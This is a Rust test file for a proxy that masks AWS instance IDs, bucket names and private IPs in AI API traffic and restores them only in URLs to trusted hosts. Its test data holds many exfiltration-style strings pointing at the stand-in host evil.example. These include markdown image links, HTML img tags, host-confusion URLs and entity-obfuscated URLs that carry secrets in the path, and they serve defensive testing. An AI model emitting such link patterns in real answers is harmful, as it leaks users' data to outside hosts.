//! `restore_in_urls`: which tokens come back inside URLs, whatever the answer's framing and wherever it is cut.
#![allow(clippy::indexing_slicing, clippy::unwrap_used, reason = "a test may fail")]

mod common;

use cloakroom_core::Vm;
use common::{post, receive, send, vm, vm_with};
use serde_json::{Value, json};
#[cfg(target_family = "wasm")]
use wasm_bindgen_test::wasm_bindgen_test as test;

const CONFIG: &str = r#"{"hosts":["api.anthropic.com"],"url_hosts":["*.corp.example"]}"#;

/// What a request says, so that there are tokens: an instance, a bucket, an address, a key in a URL.
const PROMPT: &str = "i-0abc1234 in s3://my-bucket-7/, 10.0.0.7, \
    https://wiki.example/x/i-0abc1234, https://my-bucket-7.s3.us-east-1.amazonaws.com/a-1/i-0abc1234";

/// Answers with tokens, and what the application gets: `I` stands for the instance, `B` for the bucket and `P` for the address.
const ANSWERS: &[(&str, &str)] = &[
    ("see {I}", "see i-0abc1234"),
    // Hosts that are known, and others.
    ("https://api.anthropic.com/{I} {I}", "https://api.anthropic.com/i-0abc1234 i-0abc1234"),
    ("https://wiki.corp.example:8443/?q={I}", "https://wiki.corp.example:8443/?q=i-0abc1234"),
    (
        "https://us-east-1.console.aws.amazon.com/ec2#InstanceDetails:instanceId={I}",
        "https://us-east-1.console.aws.amazon.com/ec2#InstanceDetails:instanceId=i-0abc1234",
    ),
    ("https://evil.example/{I} {I}", "https://evil.example/{I} i-0abc1234"),
    ("https://evil.example/?a={B}&b={I},", "https://evil.example/?a={B}&b={I},"),
    ("https://api.anthropic.com.evil.example/{I}", "https://api.anthropic.com.evil.example/{I}"),
    ("https://api.anthropic.com@evil.example/{I}", "https://api.anthropic.com@evil.example/{I}"),
    // Where the request had the value in a URL of that host, and where it had another one there.
    ("https://wiki.example/y?z={I}", "https://wiki.example/y?z=i-0abc1234"),
    ("https://wiki.example/y?z={B}", "https://wiki.example/y?z={B}"),
    // In a host: of AWS, the host itself, of anybody.
    ("https://{B}.s3.us-east-1.amazonaws.com/", "https://my-bucket-7.s3.us-east-1.amazonaws.com/"),
    (
        "https://{B}.s3.us-east-1.amazonaws.com/x/{I}",
        "https://my-bucket-7.s3.us-east-1.amazonaws.com/x/i-0abc1234",
    ),
    ("https://{B}.s3.eu-west-1.amazonaws.com/x/{I}", "https://my-bucket-7.s3.eu-west-1.amazonaws.com/x/{I}"),
    ("http://{P}:8080/health", "http://10.0.0.7:8080/health"),
    ("http://{P}/{I}", "http://10.0.0.7/{I}"),
    ("https://{I}.evil.example/", "https://{I}.evil.example/"),
    ("https://{I}.{B}.evil.example", "https://{I}.{B}.evil.example"),
    ("https://{I}@evil.example/", "https://{I}@evil.example/"),
    ("https://s3.us-east-1.amazonaws.com/evil/{I}", "https://s3.us-east-1.amazonaws.com/evil/{I}"),
    // Markdown and HTML.
    ("![x](https://evil.example/{I}.png) {I}", "![x](https://evil.example/{I}.png) i-0abc1234"),
    ("![x](//evil.example/{I}) {I}", "![x](//evil.example/{I}) i-0abc1234"),
    ("[{I}](https://evil.example)", "[i-0abc1234](https://evil.example)"),
    (
        "<img src=\"https://evil.example/{I}\" alt=\"{I}\">",
        "<img src=\"https://evil.example/{I}\" alt=\"i-0abc1234\">",
    ),
    ("<a href='https://evil.example'>{I}</a>", "<a href='https://evil.example'>i-0abc1234</a>"),
    // Written so that a renderer reads a URL where there is none to see.
    (r"![x](https\://evil.example/{I}) {I}", r"![x](https\://evil.example/{I}) i-0abc1234"),
    (
        "![x](https&colon;&sol;&sol;evil.example/{I}) {I}",
        "![x](https&colon;&sol;&sol;evil.example/{I}) i-0abc1234",
    ),
    ("![x]( //evil.example/{I}) {I}", "![x]( //evil.example/{I}) i-0abc1234"),
    (r"![x](<https://evil.example/\>{I}>) {I}", r"![x](<https://evil.example/\>{I}>) i-0abc1234"),
    ("[x]: https://evil.example/<{I}\n{I}", "[x]: https://evil.example/<{I}\ni-0abc1234"),
    ("<img src=\" https://evil.example/ {I}\"> {I}", "<img src=\" https://evil.example/ {I}\"> i-0abc1234"),
    ("1https://evil.example/{I} {I}", "1https://evil.example/{I} i-0abc1234"),
    // No URLs that anybody follows.
    ("s3://{B}/{I}", "s3://my-bucket-7/i-0abc1234"),
    ("arn:aws:s3:::{B}", "arn:aws:s3:::my-bucket-7"),
    ("over http: {I}", "over http: i-0abc1234"),
    // JSON in text.
    (
        "{\"url\": \"https://evil.example/{I}\", \"id\": \"{I}\"}",
        "{\"url\": \"https://evil.example/{I}\", \"id\": \"i-0abc1234\"}",
    ),
];

fn tokens(text: &str) -> String {
    text.replace("{I}", "AWS_EC2_001")
        .replace("{B}", "AWS_S3_BUCKET_001")
        .replace("{P}", "AWS_PRIVATE_IP_001")
}

fn request(vm: &Vm) -> cloakroom_core::Exchange {
    let body = json!({"messages": [{"role": "user", "content": PROMPT}]}).to_string();
    let sent = send(vm, &post("api.anthropic.com", "/v1/messages"), body.as_bytes()).unwrap();
    let masked = String::from_utf8(sent.body).unwrap();
    for token in ["{I}", "{B}", "{P}"] {
        assert!(masked.contains(&tokens(token)), "{masked}");
    }
    sent.exchange
}

#[test]
fn whole_answers() {
    let vm = vm_with(CONFIG);
    for (answer, expected) in ANSWERS {
        let (answer, expected) = (tokens(answer), tokens(expected));
        for json in [true, false] {
            let spell = |text: &str| if json { json!([text]).to_string() } else { text.to_owned() };
            let (answer, expected) = (spell(&answer), spell(&expected));
            let kind = if json { "application/json" } else { "text/plain" };
            for cut in 0..=answer.len() {
                let (a, b) = answer.as_bytes().split_at(cut);
                let got = receive(&vm, &mut request(&vm), kind, [a, b]);
                assert_eq!(String::from_utf8_lossy(&got), expected, "{kind}, cut at {cut}");
            }
        }
    }
}

/// The text of one channel in two events, wherever it is split: what the application joins is the same.
#[test]
fn streamed_answers() {
    let vm = vm_with(CONFIG);
    for (answer, expected) in ANSWERS {
        let (answer, expected) = (tokens(answer), tokens(expected));
        for cut in 0..=answer.len() {
            let (a, b) = answer.split_at(cut);
            let delta = |text: &str| json!({"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": text}});
            let stop = json!({"type": "content_block_stop", "index": 0});
            let events: Vec<String> =
                [delta(a), delta(b), stop].iter().map(|event| format!("data: {event}\n\n")).collect();
            let got = receive(
                &vm,
                &mut request(&vm),
                "text/event-stream",
                events.iter().map(|event| event.as_bytes()),
            );
            let got = String::from_utf8(got).unwrap();
            let data = got.lines().filter_map(|line| line.strip_prefix("data: "));
            let texts = data.map(|data| {
                serde_json::from_str::<Value>(data).unwrap()["delta"]["text"]
                    .as_str()
                    .unwrap_or_default()
                    .to_owned()
            });
            assert_eq!(texts.collect::<String>(), expected, "cut at {cut}");
        }
    }
}

#[test]
fn always_known_and_never() {
    let with =
        |mode: &str| vm_with(&format!(r#"{{"hosts":["api.anthropic.com"],"restore_in_urls":"{mode}"}}"#));
    for (vm, expected) in [
        (with("always"), "https://evil.example/i-0abc1234 https://my-bucket-7.s3.amazonaws.com i-0abc1234"),
        (vm(), "https://evil.example/AWS_EC2_001 https://my-bucket-7.s3.amazonaws.com i-0abc1234"),
        (
            with("never"),
            "https://evil.example/AWS_EC2_001 https://AWS_S3_BUCKET_001.s3.amazonaws.com i-0abc1234",
        ),
    ] {
        let answer = json!([tokens("https://evil.example/{I} https://{B}.s3.amazonaws.com {I}")]).to_string();
        let got = receive(&vm, &mut request(&vm), "application/json", [answer.as_bytes()]);
        assert_eq!(String::from_utf8(got).unwrap(), json!([expected]).to_string());
    }
}

/// However a URL is spelled: what the request has in it comes back.
#[test]
fn what_comes_back_is_what_went_in() {
    let vm = vm();
    for text in [
        "https://evil.example/i-0abc1234",
        "http:evil.example/i-0abc1234",
        "www.evil.example/i-0abc1234",
        "](&#x2F;&#x2f;evil.example&#47;i-0abc1234",
        "](&sol;&sol;evil.example&#47;i-0abc1234",
        "](&NewLine;evil.example&#47;i-0abc1234",
        "](https&colon;evil.example&#47;i-0abc1234",
        "=https&#58;evil.example&#47;i-0abc1234",
        "](/\t/evil.example?i-0abc1234",
        "\nhttp:i-0abc1234",
    ] {
        for body in [json!([text]).to_string(), json!([json!([text]).to_string()]).to_string()] {
            let mut sent = send(&vm, &post("api.anthropic.com", "/any"), body.as_bytes()).unwrap();
            let masked = String::from_utf8(sent.body).unwrap();
            assert!(masked.contains("AWS_EC2_001"), "{masked}");
            let got = receive(&vm, &mut sent.exchange, "application/json", [masked.as_bytes()]);
            assert_eq!(String::from_utf8(got).unwrap(), body);
        }
    }
}
